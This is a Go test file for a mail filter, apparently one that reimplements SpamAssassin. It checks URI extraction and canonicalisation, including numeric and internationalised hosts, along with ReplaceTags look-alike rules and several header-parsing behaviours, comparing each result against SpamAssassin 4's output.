		// too; a scheme in capitals none.
		{"http://FooBar/x", []string{"http://FooBar/x", "http://www.foobar.com/x"}},
		{"http://C0V-/x", []string{"http://C0V-/x", "http://C0V/x", "http://www.c0v-.com/x"}},
		{"http://www.Label/", []string{"http://www.Label/", "http://www.label.com/"}},
		{"HTTP://UPPER/", []string{"HTTP://UPPER/"}},
		{"http://www.com/", []string{"http://www.com/"}},
		// A host of one decimal number past 32 bits: decode_ulong_to_ip's
		// first eight hex digits, not the number modulo 2^32.
		{"http://026250572540/x", []string{"http://026250572540/x", "http://97.202.127.47/x"}},
		{"http://99999999999999/", []string{"http://90.243.16.122/", "http://99999999999999/"}},
		{"http://3232235777/", []string{"http://192.168.1.1/", "http://3232235777/"}},
	} {
		got := canonicalURIs([]string{c.in})
		slices.Sort(got)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s:\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

// Names written without a scheme are links where SpamAssassin 4 reads them so
// (want is its get_uri_list for the same message): ending in a known
// top-level domain, where a word starts and a link ends, the subject's too;
// not a file name, a number, a name inside a link or an address, nor one
// followed by ")" or "," (which end no link).
func TestSchemelessLinks(t *testing.T) {
	raw := `From: a@b.example
To: c@d.example
Subject: see Offer.Click now
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Visit Benefits.Click today, or sf.net/projects/x.
Go to (example.com) or [shop.example.org] and foo.com,bar and my.site.info.
Not these: file.zip.x, readme.md5, 1.5 million, e.g. this, v1.2.3, a..b.com
host.internal and server.local and www2.mirror.net/path and ftp.files.org/pub
http://known.example.com/x.com and user@mail.example.com
end.of.sentence.com. And site.com:8080/path?q=1 and bad.com:123456 and dir.com/ now
Ünïcode before.com and "quoted.net" and <angle.org> and |pipe.biz| and x_y.example.com
`
	tg := newTarget(msgOf(t, raw), map[Kind]bool{URI: true}, &Set{scanSizes: defaultScanSizes})
	got := slices.Clone(tg.uris)
	slices.Sort(got)
	want := []string{"ftp://ftp.files.org/pub", "http://Benefits.Click", "http://Offer.Click", "http://angle.org", "http://before.com", "http://end.of.sentence.com", "http://known.example.com/x.com", "http://my.site.info", "http://pipe.biz", "http://quoted.net", "http://sf.net/projects/x", "http://shop.example.org", "http://site.com:8080/path?q=1", "http://www2.mirror.net/path", "http://x_y.example.com", "mailto:user@mail.example.com"}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// The rules' uri list is MessageURIs', made once a message: the URI block lists
// read the same list beside the rules, and it is URIs' (what check --uris shows).
func TestMessageURIsShared(t *testing.T) {
	m := msgOf(t, "Subject: see www.subject.example\nContent-Type: multipart/alternative; boundary=b\n\n"+
		"--b\nContent-Type: text/plain\n\nhttp://plain.example/x\n"+
		"--b\nContent-Type: text/html\n\n<base href=\"http://base.example/\"><a href=\"rel\">r</a> <a href=\"mailto:a@b.example\">m</a>\n--b--\n")
	shared := MessageURIs(m)
	tg := newTarget(m, map[Kind]bool{URI: true}, &Set{scanSizes: defaultScanSizes})
	if len(shared) == 0 || &tg.uris[0] != &shared[0] {
		t.Errorf("the rules made their own list %q, not MessageURIs' %q", tg.uris, shared)
	}
	if want := URIs(m.Parsed); !slices.Equal(shared, want) {
		t.Errorf("MessageURIs %q, URIs %q", shared, want)
	}
	for _, u := range []string{"http://www.subject.example", "http://plain.example/x", "http://base.example/rel", "mailto:a@b.example"} {
		if !slices.Contains(shared, u) {
			t.Errorf("%s missing from %q", u, shared)
		}
	}
	if !slices.Equal(tg.anchorMailtos, []string{"mailto:a@b.example"}) {
		t.Errorf("anchor mailtos %q", tg.anchorMailtos)
	}
}

// A host written beyond ASCII is listed in its ASCII form too, as SpamAssassin
// with libidn lists it (uri_list_canonicalize's idn_to_ascii step, after the
// port's; this machine's SpamAssassin has no libidn, so the rows follow its
// code): with and without the scheme's own port, from UTF-8 or Latin-1 bytes,
// the ideographic dot a dot; nothing for bytes in no charset, nor for a link
// whose escapes had its bytes escaped.
func TestCanonicalURIsIDN(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{"http://p\u0430ypal.com/login", []string{"http://p\u0430ypal.com/login", "http://xn--pypal-4ve.com/login"}},
		{"http://B\u00fccher.example:80/x", []string{"http://B\u00fccher.example/x", "http://B\u00fccher.example:80/x", "http://xn--bcher-kva.example/x", "http://xn--bcher-kva.example:80/x"}},
		{"http://b\xfccher.example/", []string{"http://b\xfccher.example/", "http://xn--bcher-kva.example/"}},
		{"http://\u4f8b\u3048\u3002\u30c6\u30b9\u30c8/", []string{"http://xn--r8jz45g.xn--zckzah/", "http://\u4f8b\u3048\u3002\u30c6\u30b9\u30c8/"}},
		{"http://a\xff\xfe.example/", []string{"http://a\xff\xfe.example/"}},
		{"http://EXAMPLE.com/", []string{"http://EXAMPLE.com/"}},
	} {
		got := canonicalURIs([]string{c.in})
		slices.Sort(got)
		slices.Sort(c.want)
		if !slices.Equal(got, c.want) {
			t.Errorf("%q:\n got %q\nwant %q", c.in, got, c.want)
		}
	}
	if _, ok := ASCIIHost("a%d0%b0.example"); ok {
		t.Error("an escaped host has an ASCII form")
	}
}

// Every link is one line, whatever its escapes decode to: the uri rules' literal
// index counts one link a line (a %0A decoded once broke it).
func FuzzURIs(f *testing.F) {
	f.Add("see http://a.example/x%0Ay?u=http%3A%2F%2Fb.example%0D%0A and www.c.example")
	f.Add(`<a href="http://name.example@0x7f000001/%0a">x</a><img src=top><a href="mailto:a@b.example?cc=c@d.example">`)
	f.Add("<a href=\"http://a.example/x\ny\">x</a>")
	f.Add("www2. ftp. www.. visit Benefits.Click, sf.net/x (a.com) b.com:99999 c.com/ d.com.\u00a0e.com\u00a0")
	f.Fuzz(func(t *testing.T, text string) {
		_, links := scan.RenderHTMLLinks(text, true)
		for _, u := range append(findURIs(text), linkURIs(links)...) {
			if strings.ContainsAny(u, "\r\n") {
				t.Fatalf("link %q holds a line break", u)
			}
		}
	})
}

// Capture templates are not supported: a rule with %{NAME} is skipped with a
// warning, never run looking for the text "%{NAME}"; an escaped \%{NAME} is
// that text, and a named group alone is a group.
func TestCaptureTemplatesSkipped(t *testing.T) {
	dir := writeRules(t, map[string]string{"c.cf": `
header __TO_ADDR  To:addr =~ /(?<TO_ADDR>.*)/
uri    URI_HAS_TO m|^https?://.{4,64}\#%{TO_ADDR}|i
body   LITERAL    /price \%{X}/
`})
	s, problems := Load(dir)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatalf("load: %v", errs)
	}
	var warned []string
	for _, p := range problems {
		if p.Warning {
			warned = append(warned, p.Rule)
		}
	}
	if !slices.Equal(warned, []string{"URI_HAS_TO"}) {
		t.Errorf("warnings for %v, want URI_HAS_TO's alone: %v", warned, problems)
	}
	hits := hitNames(t, s, msgOf(t, "To: jo@example.com\nSubject: x\n\nSee http://x.example.com/#%{TO_ADDR} and price %{X}\n"))
	if slices.Contains(hits, "URI_HAS_TO") || !slices.Contains(hits, "LITERAL") {
		t.Errorf("hits %v, want LITERAL, not URI_HAS_TO", hits)
	}
}

// SpamAssassin's ReplaceTags: tags expanded in the rules replace_rules names, with
// inter strings between adjacent tags and post strings after each; rules defined
// before replace_rules are rebuilt.
func TestReplaceTags(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"t.cf": `
ifplugin Mail::SpamAssassin::Plugin::ReplaceTags
body     FUZZY_FREE   /<inter W1><post P2>\b<F><R><E><E>\b/i
body     CUR_AMOUNT   /<CUR>\s?\d{3,}/
body     NOT_REPLACED /<F>/
replace_tag   F    (?:f|ph)
replace_tag   R    [r]
replace_tag   E    [e3]
replace_tag   CUR  (?:<DOLLAR>|eur)
replace_tag   DOLLAR \$
replace_inter W1   \W?
replace_post  P2   {1,2}
replace_rules FUZZY_FREE CUR_AMOUNT
endif
`})
	wantBodyHits(t, s, []bodyHits{
		{"get it phr.e-e3 now", []string{"FUZZY_FREE"}},
		{"FREE stuff", []string{"FUZZY_FREE"}},
		{"pay $ 5000 or eur900", []string{"CUR_AMOUNT"}},
		{"a literal <F> tag", []string{"NOT_REPLACED"}},
		{"freedom", nil},
	})
}

// bodyHits is a body and the rules that should hit a message of it.
type bodyHits struct {
	body string
	want []string
}

// wantBodyHits checks which rules of s hit a message of each body.
func wantBodyHits(t *testing.T, s *Set, cases []bodyHits) {
	t.Helper()
	for _, tc := range cases {
		got := hitNames(t, s, msgOf(t, "Subject: x\nMessage-ID: <1@x>\n\n"+tc.body+"\n"))
		if !slices.Equal(got, tc.want) {
			t.Errorf("%q: hits %v, want %v", tc.body, got, tc.want)
		}
	}
}

// Look-alike tags spell their characters as UTF-8 bytes, as SpamAssassin 4
// matches them: those match, a block's spelt as a group after its lead bytes
// too, and the tags' single high bytes do not (<N>'s \xe7 is no ç in UTF-8
// text). A tag without sequences reads its high bytes as Latin-1.
func TestReplaceTagsLookalikes(t *testing.T) {
	s := mustLoadRules(t, map[string]string{"t.cf": `
ifplugin Mail::SpamAssassin::Plugin::ReplaceTags
body     LOOK   /x<I><N>y/
body     LATIN  /x<C>y/
replace_tag   I    (?:[iI\xec]|[\xc3][\xac]|[\xf0][\x9d](?:[\x90][\x88\xa2]|[\x91][\x96]))
replace_tag   N    (?:[nN\xe7]|[\xc3][\xb1])
replace_tag   C    (?:c|[\xe7])
replace_rules LOOK LATIN
endif
`})
	wantBodyHits(t, s, []bodyHits{
		{"xiny", []string{"LOOK"}},
		{"x\u00ec\u00f1y", []string{"LOOK"}}, // ìñ: sequences
		{"x\U0001D408ny", []string{"LOOK"}},  // 𝐈: a group after its lead bytes
		{"xi\u00e7y", nil},                   // ç: \xe7 alone is no character here
		{"x\u00e7y", []string{"LATIN"}},      // the same byte, in a tag of no sequences
	})
}

// URIs as uri rules see them: links, and bare addresses as mailto: (SpamAssassin's).
func TestFindURIs(t *testing.T) {
	for text, want := range map[string]string{
		"see http://a.example.com/x, or www.b.example.net.": "http://a.example.com/x http://www.b.example.net",
		"write to list-unsubscribe@lists.example.org today": "mailto:list-unsubscribe@lists.example.org",
		// Two spellings are two links, as SpamAssassin lists them (spamassassin -D uri).
		`<a href="mailto:Me@x.example.org">me@x.example.org</a>`: "mailto:Me@x.example.org mailto:me@x.example.org",
		"user@localhost and @handle and a@b. are not addresses":  "",
		// A scheme with nothing after it is no link (easy-ham-1.00712's
		// "<mailto: rah@ibuc.com>"; SpamAssassin lists the address alone).
		"<mailto: rah@ibuc.com> or http:// or www.":                "mailto:rah@ibuc.com",
		"ftp://f.example.net/ and bob.smith+tag@mail.example.com.": "ftp://f.example.net/ mailto:bob.smith+tag@mail.example.com",
		// SpamAssassin's canonical forms: escapes decoded, a redirector's target;
		// no link starts inside a word (the escaped www. of a query).
		"http://r.example.com/c?u=http%3A%2F%2Fwww.t.example.com%2Fx&y=1": "http://r.example.com/c?u=http%3A%2F%2Fwww.t.example.com%2Fx&y=1 http://r.example.com/c?u=http://www.t.example.com/x&y=1 http://www.t.example.com/x",
		"http:%2F%2Fh%2Eexample/": "",
		// A host written as a number is the address it stands for.
		"http://name.example@0xb2a2f51a/x":       "http://name.example@0xb2a2f51a/x http://178.162.245.26/x",
		"http://0x7f.0.0.01/ http://3232235777/": "http://0x7f.0.0.01/ http://3232235777/ http://127...1/ http://192.168.1.1/",
		// A link of the text none of whose forms names a domain is left out, as
		// SpamAssassin does (spamassassin -D uri: WEIRD_PORT does not hit
		// http://yourserver:2301/); a single label is also www.label.com to it.
		"point at http://yourserver:2301/ now, or ftp://files/x":         "",
		"mailto:root@localhost or http://intranet/":                      "http://intranet/ http://www.intranet.com/",
		"http://user@box:8080/ and http://user@box.example.com:8080/ ok": "http://user@box.example.com:8080/",
		// An address inside a link is the link's (SpamAssassin lists the link alone).
		"see http://x.example.com/?mail=jo@y.example.com now": "http://x.example.com/?mail=jo@y.example.com",
		// Two @ in one run of text: SpamAssassin's address takes them both
		// (its domain may hold an @) and is then no address (phishing/00011's
		// "phishing@pot@hotmail.com"; spamassassin -D uri lists none of these).
		"a@b-one.com@c-two.com or phishing@pot@hotmail.com or x@y@example.org": "",
		// Nor is a host SpamAssassin's is_fqdn_valid refuses: text run together
		// (spam-2.00028; spamassassin -D uri lists no such link), an underscore
		// in the domain itself, a label over 63 characters. An underscore
		// below the domain is a name.
		"all!www.a.comwww.b.comwww.c.com______Today":      "",
		"see http://my_site.com/ or http://x_y.my.com/":   "http://x_y.my.com/",
		"http://" + strings.Repeat("a", 64) + ".example/": "",
	} {
		if got := strings.Join(findURIs(text), " "); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// linkCandidatesLowered is linkCandidates as it was written first: each scheme
// searched for in turn in a lower-cased copy of the text. The reference
// TestLinkCandidates holds linkCandidates to.
func linkCandidatesLowered(text string) []string {
	var out []string
	lower := asciiLower(text) // same length as text: its indices are text's
	for _, scheme := range uriSchemes {
		for i := 0; i < len(lower) && len(out) < 200; {
			j := strings.Index(lower[i:], scheme)
			if j < 0 {
				break
			}
			start := i + j
			if start > 0 && (isWordChar(lower[start-1]) || scheme == "www." && (lower[start-1] == '/' || lower[start-1] == '.')) {
				i = start + len(scheme)
				continue
			}
			end := start
			for end < len(text) && !strings.ContainsRune(" \t\r\n\f\v\x1b\"<>[]{}|`", rune(text[end])) && !strings.HasPrefix(text[end:], "\u00a0") {
				end++
			}
			u := trimLinkEnd(text[start:end])
			if len(u) <= len(scheme) {
				i = end
				continue
			}
			if scheme == "www." {
				u = "http://" + u
			}
			out = append(out, u)
			i = end
		}
	}
	return out
}

// TestLinkCandidates: the one-pass search finds the links the five searches of a
// lower-cased copy found, in their order, on texts made of pieces that start,
// nest, overlap and end links, and on the corpus's text parts.
func TestLinkCandidates(t *testing.T) {
	pieces := []string{"http://", "HTTPS://", "ftp://", "sftp://", "WWW.", "www.", "mailto:", "MailTo:", "://", "x", "a.b", " ", "\n",
		"/", ".", "?u=http%3A%2F%2Fwww.", "<", "\"", "_", "é", "ſ", "hTtP", "s://", "=", "@", ",", "!"}
	rng := rand.New(rand.NewSource(1))
	texts := []string{"", "http://", "www.www.www.", "http://a http://b https://c ftp://d www.e mailto:f"}
	for range 20000 {
		var b strings.Builder
		for range 1 + rng.Intn(12) {
			b.WriteString(pieces[rng.Intn(len(pieces))])
		}
		texts = append(texts, b.String())
	}
	// Past the 200: over two schemes, and in one.
	texts = append(texts, strings.Repeat("http://x ", 150)+strings.Repeat("www.y ", 100), strings.Repeat("ftp://z ", 250))
	if _, err := os.Stat(filepath.Join(corpus.Dir(), "spamassassin", "spam")); err == nil {
		for _, m := range corpusSpam(t, 300) {
			for _, p := range m.Parsed.Parts {
				texts = append(texts, p.Text)
			}
		}
	}
	for _, text := range texts {
		if got, want := linkCandidates(text), linkCandidatesLowered(text); !slices.Equal(got, want) {
			t.Fatalf("%.200q:\n got %q\nwant %q", text, got, want)
		}
	}
}

// tflags multiple: meta rules see how many times a rule matched (up to maxhits), and
// a scored rule adds its score per match, as in SpamAssassin.
func TestMultiple(t *testing.T) {
	dir := writeRules(t, map[string]string{"r.cf": `
rawbody __HREF /<a href=/i
tflags __HREF multiple maxhits=10
rawbody __HREF_LOWER /<a href=/
tflags __HREF_LOWER multiple
meta MIXED __HREF - __HREF_LOWER > 0
body ACCOUNT /account/
tflags ACCOUNT multiple maxhits=2
score ACCOUNT 1.5
body ONCE /account/
score ONCE 1.5
`})
	s, problems := Load(dir)
	if errs := Errors(problems); len(errs) > 0 {
		t.Fatal(errs)
	}
	m := msgOf(t, strings.Replace(sample, `<p>Click <a href=`, `<p><A HREF="http://x.example/">x</A> Click <a href=`, 1))
	scores := map[string]float64{}
	for _, h := range mustEval(t, s, m) {
		scores[h.Rule.Name] = h.Score
	}
	if _, ok := scores["MIXED"]; !ok {
		t.Errorf("MIXED did not hit: %v", scores)
	}
	if scores["ACCOUNT"] != 3 || scores["ONCE"] != 1.5 { // three matches (Subject, text), maxhits=2
		t.Errorf("scores %v, want ACCOUNT 3 (maxhits 2 × 1.5) and ONCE 1.5", scores)
	}
	if _, ok := scores["MIXED"]; ok {
		if hits := hitNames(t, s, msgOf(t, sample)); slices.Contains(hits, "MIXED") {
			t.Errorf("MIXED hit with one lower-case href: %v", hits)
		}
	}
}

func TestParagraphs(t *testing.T) {
	for text, want := range map[string]string{
		"a\nb\n\nc":                  "a b\nc",
		"a\r\n \t\r\nb":              "a \nb", // (the \r before the blank line)
		"\n\n\na  b\n\n\n\nc\n":      "a b\nc ",
		"":                           "",
		" \n\n":                      "",
		"Name* Home Phone \n\n Next": "Name* Home Phone \n Next",
		strings.Repeat("abc ", 1000): strings.Repeat("abc ", 512) + "\n" + strings.Repeat("abc ", 488),
		strings.Repeat("x", 3000):    strings.Repeat("x", 2048) + "\n" + strings.Repeat("x", 952),
		// unicode.IsSpace's runes past ASCII are white space too; an invalid
		// byte is not.
		"a\u00a0\u0085b\u2028\n\u3000\nc": "a b \nc",
		"a\xa0\n\n\xc2b":                  "a\xa0\n\xc2b",
		"\v\fa\vb\f":                      " a b ",
	} {
		if got := paragraphs(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// A rule no score line scores gets SpamAssassin's default, or the score its author
// wrote in a commented line of 72_active.cf when that is smaller.
func TestAuthorScores(t *testing.T) {
	dir := writeRules(t, map[string]string{
		"72_active.cf": `header   LOW      Subject =~ /low/
#      score    LOW 0.25
header   TINY     Subject =~ /tiny/
#score TINY 0.001	# information
header   HIGH     Subject =~ /high/
#      score    HIGH 3.000	# limit
header   SCORED   Subject =~ /scored/
#      score    SCORED 0.1
score    SCORED 2.5
header   NICE     Subject =~ /nice/
tflags   NICE nice
#      score    NICE -0.5
header   SETS     Subject =~ /sets/
#      score    SETS 0.2 0.3 0.4 1.5
header   PLAIN    Subject =~ /plain/
`,
		"local.cf": `header MINE Subject =~ /mine/
# score MINE 0.1
`,
	})
	s, problems := Load(dir)
	for _, p := range problems {
		t.Errorf("problem: %v", p)
	}
	for name, want := range map[string]Scores{
		"LOW": {0.25, 0.25}, "TINY": {0.001, 0.001}, "HIGH": {1, 1}, "SCORED": {2.5, 2.5},
		"NICE": {-0.5, -0.5}, "SETS": {0.2, 0.4}, "PLAIN": {1, 1},
		"MINE": {1, 1}, // only the generated file's comments are scores
	} {
		if got := s.Scores(name); got != want {
			t.Errorf("%s: %v, want %v", name, got, want)
		}
	}
	if n := s.Stats.AuthorScored; n != 4 { // LOW, TINY, NICE, SETS
		t.Errorf("%d rules counted as scored by their authors, want 4", n)
	}
}

// ruleHit is a rule file's text, whose rule R is the one looked at, and whether
// R hits the message.
type ruleHit struct {
	rule string
	hit  bool
}

// checkRuleHits loads each case's rules (inside an ifplugin block of
// MIMEHeader, for mimeheader rules) and checks whether R hits msg.
func checkRuleHits(t *testing.T, msg *filter.Message, cases []ruleHit) {
	t.Helper()
	for _, c := range cases {
		s := mustLoadRules(t, map[string]string{"r.cf": "ifplugin Mail::SpamAssassin::Plugin::MIMEHeader\n" + c.rule + "\nendif\n"})
		if got := slices.Contains(hitNames(t, s, msg), "R"); got != c.hit {
			t.Errorf("%s: hit %v, want %v", c.rule, got, c.hit)
		}
	}
}

// TestHeaderValueNewline: a header rule reads a field's value with the newline
// SpamAssassin's get_header gives each instance ("a\nb\n" for two), raw ones
// too; the address and name modifiers read theirs without one. So a class or \s
// at the end matches it (XM_RANDOM's q[^u] on an X-Mailer ending in Q), $
// anywhere in a pattern without /m matches before it, and \z only after it.
// Each want is `spamassassin -L -t --cf="$RULES"` on the message (4.0.0).
func TestHeaderValueNewline(t *testing.T) {
	msg := msgOf(t, "From: Jo <jo@example.org>\nTo: <a@example.com>\nSubject: hello world\nX-Mailer: Foo Q\n"+
		"X-Foo: a\nX-Foo: b\nMessage-ID: <1@example.org>\nMIME-Version: 1.0\nContent-Type: text/plain\n\nhi there\n")
	checkRuleHits(t, msg, []ruleHit{
		{`header R X-Mailer =~ /q[^u]/i`, true},
		{`header R Subject =~ /\s$/`, true},
		{`header R Subject =~ /^hello world$|zzz/`, true},
		{`header R To !~ /(?:>$|>,)/`, false},
		{`header R From:addr =~ /[^a-z]$/`, false},
		{`header R From:name =~ /\s/`, false},
		{`header R Subject =~ /d\z/`, false},
		{`header R Subject =~ /^hello world\n\z/`, true},
		{`header R X-Foo =~ /^a\nb$/`, true},
		{`header R X-Foo =~ /^a\nb\n\z/`, true},
		{`header R X-Foo =~ /^b$/`, false},
		{`header R X-Foo =~ /^b$/m`, true},
		{`header R Subject =~ /\s\z/m`, true},
		{`header R Subject:raw =~ /d\n\z/`, true},
		{`header R ToCc =~ /\n\z/`, true},
		{`header R MESSAGEID =~ /\n\z/`, true},
		{`mimeheader R Content-Type =~ /plain\n\z/`, true},
		// Counted: the space and the newline.
		{"header C Subject =~ /\\s/\ntflags C multiple\nmeta R C > 1", true},
		{"mimeheader C Content-Type =~ /\\s/\ntflags C multiple\nmeta R C > 1", false},
	})
}

// TestRawHeaderValue: FIELD:raw is what follows the field's colon as the message
// has it, its leading white space and folds kept, as SpamAssassin's raw_header
// gives it: __KB_DATE_CONTAINS_TAB (KB_DATE_CONTAINS_TAB, 3.8 points) is a tab
// after "Date:", which a trimmed value never starts with. ToCc:raw and
// MESSAGEID:raw are get_header's raw form, whose folds are one space. Each want
// is `spamassassin -L -t --cf="$RULES"` on the message (4.0.0).
func TestRawHeaderValue(t *testing.T) {
	msg := msgOf(t, "From: Jo <jo@example.org>\nTo: Al\n <a@example.com>\nSubject: hello\n world\n"+
		"Date:\tMon, 7 Dec 2026 10:00:00 +0000\nX-Foo: a\nX-Foo:b\nMessage-ID: <1@example.org>\n"+
		"MIME-Version: 1.0\nContent-Type: text/plain\n\nhi there\n")
	checkRuleHits(t, msg, []ruleHit{
		{`header R Date:raw =~ /^\t/`, true},
		{`header R Subject:raw =~ /hello\n\sworld/`, true},
		{`header R Subject:raw =~ /^ hello/`, true},
		{`header R Subject:raw =~ /world\n\z/`, true},
		{`header R Subject =~ /^hello world$/`, true},
		{`header R To:raw =~ /^ Al\n <a/`, true},
		{`header R ToCc:raw =~ /^ Al <a/`, true},
		{`header R X-Foo:raw =~ /^ a\nb\n\z/`, true},
		{`header R MESSAGEID:raw =~ /^ <1/`, true},
		{`mimeheader R Content-Type:raw =~ /^ text\/plain\n\z/`, true},
		{`header R From:raw =~ /^Jo/`, false},
	})
	if s := stockRules(t, false); !slices.Contains(hitNames(t, s, msg), "KB_DATE_CONTAINS_TAB") {
		t.Error("KB_DATE_CONTAINS_TAB: no hit")
	}
}

// TestLongHeaderValue: SpamAssassin keeps the first 8,192 bytes of a field's
// value, and its rules never read the rest (phishing/04820's To field of 24 KB
// lists an address 20 KB in, which __SENDER_BOT, on ALL, found only here), but
// for ALL:raw, the header as the message has it. Each
// want is `spamassassin -L -t --cf="$RULES"` on the message (4.0.0).
func TestLongHeaderValue(t *testing.T) {
	var addrs []string
	for i := range 500 {
		addrs = append(addrs, fmt.Sprintf("user%04d@example.com", i))
	}
	addrs[10], addrs[450] = "early@example.com", "newsbot@example.com"
	var lines []string
	for i := 0; i < len(addrs); i += 3 {
		lines = append(lines, strings.Join(addrs[i:min(i+3, len(addrs))], ", "))
	}
	msg := msgOf(t, "From: jo@example.org\nTo: "+strings.Join(lines, ",\n ")+
		"\nSubject: hi\nMessage-ID: <1@example.org>\nDate: Mon, 7 Dec 2026 10:00:00 +0000\n\nhi\n")
	checkRuleHits(t, msg, []ruleHit{
		{`header R ALL =~ /newsbot\@/`, false},
		{`header R To =~ /newsbot/`, false},
		{`header R To =~ /early/`, true},
		{`header R ToCc =~ /newsbot/`, false},
		{`header R To:raw =~ /newsbot/`, false},
		{`mimeheader R To =~ /newsbot/`, false},
		{`header R ALL:raw =~ /newsbot\@/`, true}, // (the pristine header)
		{`header R Subject =~ /^hi$/`, true},      // (the fields after it are whole)
	})
}

// cutLongFields keeps the fields' order and every short field as it is, and
// cuts a long one between characters, with no blank line after it.
func TestCutLongFields(t *testing.T) {
	for _, c := range []struct {
		name, value string // the long field's value after "X-Long:"
		want        string // its raw form after the cut, LF line ends
	}{
		{"a cut in a character", " " + strings.Repeat("é", 5000), " " + strings.Repeat("é", 4095) + "\n"},
		{"a cut after a newline", " " + strings.Repeat("a", 8190) + "\n " + strings.Repeat("b", 99), " " + strings.Repeat("a", 8190) + "\n"},
	} {
		m := msgOf(t, "From: jo@example.org\nX-Long:"+c.value+"\nSubject: hi\n\nhi\n")
		h := cutLongFields(m.Parsed.Header)
		var keys []string
		for f := h.Fields(); f.Next(); {
			keys = append(keys, f.Key())
		}
		raw, _ := h.Raw("X-Long")
		if got := strings.ReplaceAll(string(raw), "\r\n", "\n"); got != "X-Long:"+c.want || !utf8.ValidString(got) {
			t.Errorf("%s: %q… (%d bytes), want %q… (%d)", c.name, got[:min(20, len(got))], len(got), "X-Long:"+c.want[:10], len("X-Long:"+c.want))
		}
		if !slices.Equal(keys, []string{"From", "X-Long", "Subject"}) || h.Get("Subject") != "hi" {
			t.Errorf("%s: fields %v, Subject %q", c.name, keys, h.Get("Subject"))
		}
	}
}

// TestMessageIDFields: MESSAGEID is every instance of X-Message-Id,
// Resent-Message-Id, X-Original-Message-ID and Message-Id, in that order, as
// SpamAssassin's _get makes it; without /m, ^ reads the first. Each want is
// `spamassassin -L -t --cf="$RULES"` on the message (4.0.0).
func TestMessageIDFields(t *testing.T) {
	msg := msgOf(t, "From: Jo <jo@example.org>\nTo: a@example.com\nSubject: hi\nMessage-ID: <1@example.org>\n"+
		"Resent-Message-Id: <2@example.org>\nX-Original-Message-ID: <3@example.org>\nMessage-ID: <4@example.org>\n\nhi there\n")
	checkRuleHits(t, msg, []ruleHit{
		{`header R MESSAGEID =~ /^<2\@/`, true},
		{`header R MESSAGEID =~ /^<1\@/`, false},
		{`header R MESSAGEID =~ /^<3\@/m`, true},
		{`header R MESSAGEID =~ /^<2\@example\.org>\n<3\@example\.org>\n<1\@example\.org>\n<4\@example\.org>\n\z/`, true},
		{`header R MESSAGEID:raw =~ /^ <2\@example\.org>\n <3\@/`, true},
	})
}

// TestEnvelopeFromHeaders: with no envelope sender from the MTA or the relays,
// EnvelopeFrom is the address of the first instance of X-Envelope-From,
// Envelope-Sender or Return-Path, as SpamAssassin's get_envelope_from reads
// FIELD:first:addr: a first Return-Path without an address gives none, not the
// next one's (two list messages of the corpus, easy-ham-2.01346 and 01347, had
// HEADER_FROM_DIFFERENT_DOMAINS from it). An X-Sender is a fetchmail's sign only
// when it holds an address as SpamAssassin parses one ("@ (Unverified)" does
// not: easy-ham-1.00004 lost the rule). Each want is `spamassassin -L -t
// --cf="$RULES"` on the message (4.0.0).
func TestEnvelopeFromHeaders(t *testing.T) {
	const rest = "From: a@example.org\nTo: c@example.net\nSubject: hi\nMessage-ID: <1@example.org>\nDate: Mon, 7 Dec 2026 10:00:00 +0000\n\nhi\n"
	const fetchmail = "Received: from phobos [127.0.0.1] by localhost with IMAP (fetchmail-5.9.0) for zzzz@localhost (single-drop); Thu, 22 Aug 2002 14:23:38 +0100 (IST)\n"
	s := mustLoadRules(t, map[string]string{"r.cf": "header ANY EnvelopeFrom =~ /\\@/\nheader DIFF eval:check_equal_from_domains()\n"})
	for _, c := range []struct {
		name, header string
		want         []string
	}{
		{"a first Return-Path without an address", "Return-Path: yyyy\nReturn-Path: <b@other.org>\n" +
			"Received: from a.example.org (a.example.org [192.0.2.1]) by mx.example.net (Postfix) with ESMTP id 1; Mon, 7 Dec 2026 10:00:00 +0000\n", nil},
		{"an X-Sender without an address", "Return-Path: <x@tb.tf>\n" + fetchmail + "X-Sender: @ (Unverified)\n", []string{"ANY", "DIFF"}},
		{"an X-Sender with one, fetched", "Return-Path: <x@tb.tf>\n" + fetchmail + "X-Sender: info@example.com@example.com (Unverified)\n", nil},
	} {
		if got := hitNames(t, s, msgOf(t, c.header+rest)); !slices.Equal(got, c.want) {
			t.Errorf("%s: hits %v, want %v", c.name, got, c.want)
		}
	}
}

// mimeheader rules (SpamAssassin's MIMEHeader plugin) test a field in the message's
// header and in every MIME part's.
func TestMIMEHeader(t *testing.T) {
	dir := writeRules(t, map[string]string{"mime.cf": `ifplugin Mail::SpamAssassin::Plugin::MIMEHeader
mimeheader TEXT_PART   Content-Type =~ /text\/\w+/i
mimeheader OBFU_TXT    Content-Type =~ m,\bapplication/octet-stream\b.+\.txt\b,i
mimeheader GIF_8SPACE  Content-Type:raw =~ /^image\/gif;\n {8}name=\".+?\"$/s
mimeheader NAME_ENC    Content-Disposition =~ /filename="caf. menu/
endif
mimeheader BAD         Content-Type !~ /x/
`})
	s, problems := Load(dir)
	if len(problems) != 1 || problems[0].Rule != "BAD" {
		t.Errorf("problems %v, want one: BAD's !~", problems)
	}
	multipart := "From: a@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" +
		"--b\nContent-Type: image/gif;\n        name=\"x.gif\"\n\nGIF89a\n" +
		"--b\nContent-Type: application/octet-stream; name=\"notes.txt\"\nContent-Disposition: attachment; filename=\"=?utf-8?q?caf=C3=A9_menu?=.txt\"\n\nhello\n--b--\n"
	for _, tc := range []struct {
		name, msg string
		want      []string
	}{
		{"single text part", "From: a@example.org\nSubject: s\nContent-Type: text/plain\n\nhello\n", []string{"TEXT_PART"}},
		{"no Content-Type", "From: a@example.org\nSubject: s\n\nhello\n", nil},
		{"parts", multipart, []string{"GIF_8SPACE", "NAME_ENC", "OBFU_TXT"}},
	} {
		var got []string
		for _, h := range mustEval(t, s, msgOf(t, tc.msg)) {
			got = append(got, h.Rule.Name)
		}
		slices.Sort(got)
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: hits %v, want %v", tc.name, got, tc.want)
		}
	}
}

